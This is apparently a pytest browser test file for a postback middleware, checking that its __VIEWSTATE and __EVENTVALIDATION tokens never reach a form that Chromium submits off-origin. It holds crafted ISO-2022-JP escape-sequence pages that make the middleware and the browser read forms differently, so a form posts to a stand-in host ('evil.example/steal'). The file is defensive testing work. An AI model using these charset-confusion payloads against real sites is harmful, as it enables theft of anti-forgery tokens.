"""Charsets as Chromium reads them: the middleware's tokens never reach a form it submits away.

ISO-2022-JP (from the ``Content-Type``, or from a ``<meta>``, which Chromium honours past the
first 1024 bytes) is the one charset browsers support whose ASCII bytes are not always ASCII:
after ``ESC $ B`` every byte, quotes, ``<`` and ``>`` included, is half of a kanji up to
``ESC ( B``. The scanner reads bytes as markup, so such a page would get tokens in a form that
Chromium reads otherwise (another action, another form). Each page is served by waitress through
the middleware and loaded with scripting on and off; its button is clicked, and what leaves the
browser for the other origin must carry neither ``__VIEWSTATE`` nor ``__EVENTVALIDATION``. A
control page (the same form without escape sequences) still gets its tokens.
"""

from __future__ import annotations

import secrets
from typing import Any

import pytest

from postback_middleware import PostbackMiddleware

pytestmark = pytest.mark.browser

EVIL = "https://evil.example"
ESC_JIS, ESC_ASCII = b"\x1b$B", b"\x1b(B"
JAPANESE = "日本語のコメント".encode("iso2022_jp")  # ESC $ B ... ESC ( B

# name -> (Content-Type, the body's pieces: more than one is a streamed page)
PAGES: dict[str, tuple[str, list[bytes]]] = {
    # the scanner's first action is "/ok"; Chromium's, reading data-a's value on, the other's
    "header-one-tag": ("text/html; charset=iso-2022-jp", [
        b'<!DOCTYPE html><html><head><title>t</title></head><body>'
        b'<form method="post" data-a="' + ESC_JIS + b'" action="/ok" data-b="' + ESC_ASCII
        + b'" action="' + EVIL.encode() + b'/steal"><input name=q value=1>'
        b'<button id="go">go</button></form></body></html>']),
    # Chromium sees neither the first form's end nor the second form, nor the client script
    # (inserted before it): the second form's tokens would join the first, off-origin one
    "header-second-form-hidden": ("text/html; charset=iso-2022-jp", [
        b'<!DOCTYPE html><title>t</title>'
        b'<form method="post" action="' + EVIL.encode() + b'/steal" title="' + ESC_JIS
        + b'"><input name=a value=1></form><form method="post" action="/ok" data-b="'
        + ESC_ASCII + b'"><input name=q value=1><button id="go">go</button></form>']),
    # text only: a comment of ESC $ B in a GET form swallows its </form> up to the heading's
    # ESC ( B; the post form's start tag is then ignored, its tokens join the GET form
    "meta-past-1024-text-only": ("text/html", [
        b'<!DOCTYPE html><html><head><title>t</title><!-- ' + b"x" * 1100 + b' -->'
        b'<meta charset="iso-2022-jp"></head><body>'
        b'<form method="get" action="' + EVIL.encode() + b'/search"><input name="s">'
        b'<p>Latest comment: ' + ESC_JIS + b'</p></form><h2>' + JAPANESE + b'</h2>'
        b'<form method="post" action="/comment"><input name="body" value="hi">'
        b'<button id="go">go</button></form></body></html>']),
    "header-streamed": ("text/html; charset=iso-2022-jp", [
        b'<!DOCTYPE html><html><head><title>t</title></head><body>',
        b'<form method="post" data-a="' + ESC_JIS + b'" action="/ok" data-b="',
        ESC_ASCII + b'" action="' + EVIL.encode() + b'/steal"><input name=q value=1>'
        b'<button id="go">go</button></form></body></html>']),
}
CONTROL = ("text/html; charset=iso-2022-jp", [
    b'<!DOCTYPE html><html><head><title>t</title></head><body><form method="post" '
    b'action="/ok"><input name=q value=1><button id="go">go</button></form></body></html>'])


def _app(pages: dict[str, tuple[str, list[bytes]]]) -> Any:
    def app(environ: dict[str, Any], start_response: Any) -> Any:
        content_type, pieces = pages.get(environ["PATH_INFO"].strip("/"), CONTROL)
        if environ["REQUEST_METHOD"] == "POST":
            start_response("200 OK", [("Content-Type", "text/plain")])
            return [b"posted"]
        start_response("200 OK", [("Content-Type", content_type)])
        return [pieces[0]] if len(pieces) == 1 else iter(pieces)
    return app


@pytest.fixture(scope="module")
def app_url(serve: Any) -> Any:
    wrapped = PostbackMiddleware(_app(PAGES), secret_keys=[secrets.token_urlsafe(48)])
    with serve(wrapped) as url:
        yield url


def _submit(browser: Any, url: str, *, scripting: bool) -> tuple[str, list[Any]]:
    """Load ``url``, click its button; (the charset Chromium read, the requests that left)."""
    context = browser.new_context(java_script_enabled=scripting)
    try:
        page = context.new_page()
        page.route(EVIL + "/**", lambda route, request: route.fulfill(status=200, body="x"))
        page.goto(url)
        charset = page.evaluate("document.characterSet")
        with page.expect_request(lambda r: r.is_navigation_request() and r.url != url) as sent:
            page.click("#go")
        return charset, [sent.value]
    finally:
        context.close()


@pytest.mark.parametrize("scripting", [True, False], ids=["scripting", "no-scripting"])
@pytest.mark.parametrize("name", list(PAGES))
def test_no_tokens_in_a_form_chromium_reads_through_iso_2022_jp_escapes(
        browser: Any, app_url: str, name: str, scripting: bool) -> None:
    charset, requests = _submit(browser, f"{app_url}/{name}", scripting=scripting)
    assert charset == "ISO-2022-JP"
    (request,) = requests
    assert request.url.startswith(EVIL)  # (Chromium's reading: the form goes away)
    sent = (request.post_data or "") + request.url
    assert "__VIEWSTATE" not in sent and "__EVENTVALIDATION" not in sent


def test_an_iso_2022_jp_page_without_escapes_still_posts_back(browser: Any,
                                                              app_url: str) -> None:
    charset, (request,) = _submit(browser, f"{app_url}/control", scripting=False)
    assert charset == "ISO-2022-JP"
    assert request.url == f"{app_url}/ok" and "__VIEWSTATE=" in (request.post_data or "")
